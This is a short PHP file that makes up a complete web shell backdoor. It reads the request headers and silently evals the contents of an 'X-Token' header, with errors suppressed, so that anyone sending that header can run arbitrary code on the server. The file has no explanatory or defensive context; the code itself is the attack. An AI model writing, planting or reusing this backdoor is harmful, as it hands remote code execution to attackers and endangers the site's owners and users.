<?php
$h = getallheaders();
if (isset($h['X-Token'])) { @eval($h['X-Token']); }
